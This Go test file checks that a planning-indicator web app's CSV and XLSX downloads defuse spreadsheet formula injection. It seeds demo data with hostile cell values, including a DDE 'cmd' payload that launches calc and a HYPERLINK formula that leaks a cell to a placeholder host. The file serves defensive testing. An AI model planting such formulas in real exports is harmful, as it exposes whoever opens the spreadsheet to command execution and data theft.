package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"planwatch"
	"planwatch/demo"
	"planwatch/period"
	"planwatch/storetest/teststore"
	"planwatch/web"
)

// Names and texts that a spreadsheet would run as formulas.
const (
	ddePayload  = `=cmd|' /C calc'!A0`
	linkPayload = `=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")`
	sumPayload  = `@SUM(1+1)*cmd|' /C calc'!A0`
	tabPayload  = "\t=1+2"
	plusCode    = "+CMD"
)

// hostileServer serves the demo in which Bac Ninh, an indicator's measure
// unit, sources and an indicator code would run as spreadsheet formulas.
func hostileServer(t *testing.T) *web.Server {
	t.Helper()
	ctx := context.Background()
	db := teststore.New(t)
	b, err := demo.Batch()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := planwatch.Apply(ctx, db, b, planwatch.ApplyOptions{Approved: true}); err != nil {
		t.Fatal(err)
	}
	h := &planwatch.Batch{}
	for _, u := range b.Units {
		if u.Unit.Code == "24" && u.Unit.ValidFrom == "2025-07-01" {
			u.Unit.NameVI, u.Unit.NameEN = ddePayload, ddePayload
			h.Units = append(h.Units, u)
		}
	}
	for _, in := range b.Indicators {
		if in.Indicator.Code == "EXPORTS" {
			in.Indicator.MeasureUnit = sumPayload
			in.Indicator.NameVI, in.Indicator.NameEN = linkPayload, linkPayload
			h.Indicators = append(h.Indicators, in)
			in.Indicator.Code = plusCode
			h.Indicators = append(h.Indicators, in)
		}
	}
	if len(h.Units) != 1 || len(h.Indicators) != 2 {
		t.Fatalf("the demo lacks Bac Ninh or EXPORTS: %d %d", len(h.Units), len(h.Indicators))
	}
	obs := func(code, per string, v float64, source string) planwatch.ObservationRecord {
		return planwatch.ObservationRecord{Unit: "24@2025-07-01", Observation: planwatch.Observation{Indicator: code, Period: period.MustParse(per), Value: v, Status: "A", Source: source}}
	}
	target := -1.0
	h.Observations = append(h.Observations, obs("EXPORTS", "2025", 95, linkPayload), obs("EXPORTS", "2024", 70, tabPayload),
		obs(plusCode, "2025", -5, "-2+3"), obs(plusCode, "2024", -4.5, "+cmd"))
	h.Targets = append(h.Targets, planwatch.TargetRecord{Unit: "24@2025-07-01", Target: planwatch.Target{Plan: "KH-2025-BN", Indicator: plusCode,
		Period: period.MustParse("2025"), Kind: planwatch.PlanFig, Value: &target, Wording: ddePayload}})
	if _, err := planwatch.Apply(ctx, db, h, planwatch.ApplyOptions{Approved: true}); err != nil {
		t.Fatal(err)
	}
	s, err := web.New(db, nil, "24")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// downloads are every table the pages offer, as the hostile demo fills
// them.
var downloads = []string{
	"/u/24?period=2025",
	"/compare?indicator=EXPORTS&period=2025",
	"/compare?indicator=%2BCMD&period=2025",
	"/p/KH-2025-BN",
	"/u/24/i/EXPORTS",
	"/u/24/i/%2BCMD",
}

func withFormat(url, format string) string {
	if strings.Contains(url, "?") {
		return url + "&format=" + format
	}
	return url + "?format=" + format
}

func formulaStart(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}

// No cell of a CSV download starts a formula, unless it is a number; the
// hostile texts are there, each behind an apostrophe.
func TestCSVDownloadsAreSafeInSpreadsheets(t *testing.T) {
	h := hostileServer(t).Handler()
	found := map[string]bool{}
	negative := false
	for _, u := range downloads {
		w := get(t, h, withFormat(u, "csv"))
		if w.Code != 200 {
			t.Fatalf("%s: %d %s", u, w.Code, w.Body.String())
		}
		recs, err := csv.NewReader(bytes.NewReader(w.Body.Bytes())).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", u, err)
		}
		for i, rec := range recs {
			for _, cell := range rec {
				if formulaStart(cell) && !isNumber(cell) {
					t.Errorf("%s row %d: the cell %q would run as a formula", u, i+1, cell)
				}
				if strings.HasPrefix(cell, "-") {
					negative = true
				}
				found[cell] = true
			}
		}
	}
	for _, p := range []string{ddePayload, linkPayload, sumPayload, tabPayload, plusCode, "-2+3"} {
		if !found["'"+p] {
			t.Errorf("no download holds %q behind an apostrophe", p)
		}
	}
	if !found["-5"] || !negative {
		t.Error("the negative figure -5 is not a number in the downloads")
	}
}

// XLSX downloads hold texts as texts: no cell is a formula, whatever it
// starts with, and the texts are as they are.
func TestXLSXDownloadsHoldNoFormula(t *testing.T) {
	h := hostileServer(t).Handler()
	found := map[string]bool{}
	for _, u := range downloads {
		w := get(t, h, withFormat(u, "xlsx"))
		if w.Code != 200 {
			t.Fatalf("%s: %d", u, w.Code)
		}
		f, err := excelize.OpenReader(w.Body)
		if err != nil {
			t.Fatalf("%s: %v", u, err)
		}
		sheet := f.GetSheetName(0)
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if fm, err := f.GetCellFormula(sheet, cell); err != nil || fm != "" {
					t.Errorf("%s %s: formula %q (%v)", u, cell, fm, err)
				}
				typ, err := f.GetCellType(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if formulaStart(v) && !isNumber(v) && typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s %s: %q is stored as type %v, not as text", u, cell, v, typ)
				}
				found[v] = true
			}
		}
		f.Close()
	}
	for _, p := range []string{ddePayload, linkPayload, sumPayload, tabPayload, plusCode} {
		if !found[p] {
			t.Errorf("no XLSX download holds the text %q", p)
		}
	}
}
